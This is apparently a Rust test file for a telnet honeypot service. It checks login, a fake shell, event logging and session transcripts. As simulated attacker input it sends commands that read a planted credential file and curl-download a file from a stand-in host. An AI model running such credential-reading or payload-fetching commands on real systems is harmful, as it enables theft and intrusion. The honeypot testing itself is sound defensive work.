//! Telnet: option negotiation, login with the decky's credentials, and the
//! shared fake shell (same VFS as the decky's other services), recorded as
//! events and an asciicast transcript.
#![allow(clippy::unwrap_used)]

use std::sync::Arc;
use std::time::{Duration, Instant};

use decnet_bus::{Bus, Delivery, MemoryBus};
use decnet_core::{EventKind, FleetSpec};
use decnet_services::{start_service, DeckyCtx, Limits};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio_util::sync::CancellationToken;

const IAC: u8 = 255;

/// Reads until `needle` appears in the data stream (telnet commands stripped).
async fn until(s: &mut TcpStream, acc: &mut Vec<u8>, cmds: &mut Vec<u8>, needle: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        if let Some(pos) = acc
            .windows(needle.len())
            .position(|w| w == needle.as_bytes())
        {
            let text = String::from_utf8_lossy(&acc[..pos + needle.len()]).into_owned();
            acc.drain(..pos + needle.len());
            return text;
        }
        let mut buf = [0u8; 4096];
        let left = deadline.saturating_duration_since(Instant::now());
        let n = tokio::time::timeout(left, s.read(&mut buf))
            .await
            .unwrap_or_else(|_| {
                panic!("waiting for {needle:?}: {:?}", String::from_utf8_lossy(acc))
            })
            .unwrap();
        assert!(n > 0, "closed waiting for {needle:?}");
        let mut i = 0;
        while i < n {
            if buf[i] == IAC && i + 2 < n && (251..=254).contains(&buf[i + 1]) {
                cmds.extend_from_slice(&buf[i..i + 3]);
                i += 3;
            } else {
                acc.push(buf[i]);
                i += 1;
            }
        }
    }
}

#[tokio::test]
async fn telnet_login_runs_the_shared_shell() {
    let bus = MemoryBus::new();
    let mut sub = bus.subscribe("events.>", Delivery::Lossless).unwrap();
    let text = "[tel]\nip = 127.0.61.30\nservices = telnet\ndistro = debian\n[tel.telnet]\npassword = pw1\n";
    let (fleet, _): (FleetSpec, _) = decnet_core::fleet::parse_str(text).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let limits = Limits {
        auth_fail_delay: Duration::from_millis(20),
        ..Limits::default()
    };
    let ctx = Arc::new(DeckyCtx::new(
        fleet.deckies[0].clone(),
        0,
        dir.path().to_owned(),
        bus.clone() as Arc<dyn Bus>,
        limits,
        36200,
    ));
    // A file dropped into the decky's VFS before the session (as a file drop does).
    ctx.vfs()
        .add_file(
            "/root/notes.txt",
            b"db password: hunter2\n",
            0o600,
            chrono::Utc::now(),
            None,
        )
        .unwrap();
    let cancel = CancellationToken::new();
    let running = start_service(
        ctx.clone(),
        &decnet_services::protocols::remote::telnet::Telnet,
        &cancel,
    )
    .await
    .unwrap();
    let mut s = TcpStream::connect(running.addrs[0].1).await.unwrap();
    let (mut acc, mut cmds) = (Vec::new(), Vec::new());
    let host = ctx.persona.hostname.split('.').next().unwrap().to_owned();
    until(&mut s, &mut acc, &mut cmds, &format!("{host} login: ")).await;
    // The server offered ECHO and SGA and asked for NAWS and TTYPE.
    for opt in [[IAC, 251, 1], [IAC, 251, 3], [IAC, 253, 31], [IAC, 253, 24]] {
        assert!(
            cmds.windows(3).any(|w| w == opt),
            "missing {opt:?} in {cmds:?}"
        );
    }
    // NAWS 100x30 then log in.
    s.write_all(&[IAC, 250, 31, 0, 100, 0, 30, IAC, 240])
        .await
        .unwrap();
    s.write_all(b"root\r\n").await.unwrap();
    until(&mut s, &mut acc, &mut cmds, "Password: ").await;
    s.write_all(b"pw1\r\n").await.unwrap();
    let motd = until(&mut s, &mut acc, &mut cmds, &format!("root@{host}:~# ")).await;
    assert!(motd.contains(&format!("Linux {host} ")), "{motd}");
    s.write_all(b"\x1b[Awhoami; cat /root/notes.txt\r\n")
        .await
        .unwrap();
    let out = until(&mut s, &mut acc, &mut cmds, "# ").await;
    assert!(
        out.contains("\r\nroot\r\ndb password: hunter2\r\n"),
        "{out:?}"
    );
    s.write_all(b"curl -O http://198.51.100.4/x\r\n")
        .await
        .unwrap();
    let out = until(&mut s, &mut acc, &mut cmds, "# ").await;
    assert!(
        out.contains("curl: (7) Failed to connect to 198.51.100.4 port 80"),
        "{out:?}"
    );
    s.write_all(b"exit\r\n").await.unwrap();
    until(&mut s, &mut acc, &mut cmds, "logout").await;

    let mut seen = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(5);
    while !seen
        .iter()
        .any(|e: &decnet_core::Event| e.kind == EventKind::Disconnect)
    {
        let left = deadline.saturating_duration_since(Instant::now());
        let env = tokio::time::timeout(left, sub.recv())
            .await
            .expect("events")
            .unwrap();
        seen.push(decnet_core::Event::clone(env.as_event().unwrap()));
    }
    let auth = seen
        .iter()
        .find(|e| e.kind == EventKind::AuthAttempt)
        .unwrap();
    assert_eq!(auth.fields["success"], true);
    let commands: Vec<&str> = seen
        .iter()
        .filter(|e| e.kind == EventKind::Command)
        .map(|e| e.fields["command"].as_str().unwrap())
        .collect();
    assert_eq!(
        commands,
        [
            "whoami; cat /root/notes.txt",
            "curl -O http://198.51.100.4/x",
            "exit"
        ]
    );
    let dl = seen
        .iter()
        .find(|e| e.kind == EventKind::FileDownload)
        .unwrap();
    assert_eq!(dl.fields["url"], "http://198.51.100.4/x");
    let sid = auth.session_id.unwrap();
    assert!(seen.iter().all(|e| e.session_id == Some(sid)));
    // asciicast v2 transcript named by the session id, with the window size from NAWS.
    // The transcript is written off the session's task (blocking pool), so
    // under load its header may land a moment after the session's events.
    let path = dir.path().join("transcripts").join(format!("{sid}.cast"));
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    let (cast, header) = loop {
        let cast = std::fs::read_to_string(&path).unwrap_or_default();
        let header: serde_json::Value = cast
            .lines()
            .next()
            .and_then(|l| serde_json::from_str(l).ok())
            .unwrap_or_default();
        let complete = header["version"].is_u64() && cast.contains("whoami; cat /root/notes.txt");
        if complete || std::time::Instant::now() > deadline {
            break (cast, header);
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    };
    assert_eq!(
        (
            header["version"].as_u64(),
            header["width"].as_u64(),
            header["height"].as_u64()
        ),
        (Some(2), Some(100), Some(30))
    );
    assert!(cast.contains("whoami; cat /root/notes.txt"));
    running.stop().await;
}

/// The greeting (negotiation, issue, prompt) is one write, and a line typed
/// in one segment is echoed in one segment together with the next prompt:
/// one send per byte made telnet the slowest path of the connect benchmark.
#[tokio::test]
async fn greeting_and_line_echo_are_single_segments() {
    let bus = MemoryBus::new();
    let mut sub = bus.subscribe("events.>", Delivery::Lossless).unwrap();
    let text = "[tel2]\nip = 127.0.61.31\nservices = telnet\ndistro = debian\n";
    let (fleet, _): (FleetSpec, _) = decnet_core::fleet::parse_str(text).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let ctx = Arc::new(DeckyCtx::new(
        fleet.deckies[0].clone(),
        0,
        dir.path().to_owned(),
        bus.clone() as Arc<dyn Bus>,
        Limits::default(),
        36200,
    ));
    let cancel = CancellationToken::new();
    let running = start_service(
        ctx.clone(),
        &decnet_services::protocols::remote::telnet::Telnet,
        &cancel,
    )
    .await
    .unwrap();
    let host = ctx.persona.hostname.split('.').next().unwrap().to_owned();
    let mut s = TcpStream::connect(running.addrs[0].1).await.unwrap();
    let mut buf = [0u8; 4096];
    let n = read_once(&mut s, &mut buf).await;
    assert_eq!(&buf[..3], &[IAC, 251, 1], "{:?}", &buf[..n]);
    assert!(
        buf[..n].ends_with(format!("{host} login: ").as_bytes()),
        "greeting split: {:?}",
        String::from_utf8_lossy(&buf[..n])
    );
    // A backspace is echoed as BS SP BS; the name logged is the edited one.
    s.write_all(b"roo\x7ft\r\n").await.unwrap();
    let n = read_once(&mut s, &mut buf).await;
    assert_eq!(
        String::from_utf8_lossy(&buf[..n]),
        "roo\x08 \x08t\r\nPassword: "
    );
    s.write_all(b"nope\r\n").await.unwrap();
    let auth = loop {
        let env = tokio::time::timeout(Duration::from_secs(5), sub.recv())
            .await
            .expect("events")
            .unwrap();
        let e = env.as_event().unwrap();
        if e.kind == EventKind::AuthAttempt {
            break decnet_core::Event::clone(e);
        }
    };
    assert_eq!(auth.fields["username"], "rot");
    assert_eq!(auth.fields["password"], "nope");
    running.stop().await;
}

async fn read_once(s: &mut TcpStream, buf: &mut [u8]) -> usize {
    tokio::time::timeout(Duration::from_secs(5), s.read(buf))
        .await
        .expect("reply")
        .unwrap()
}
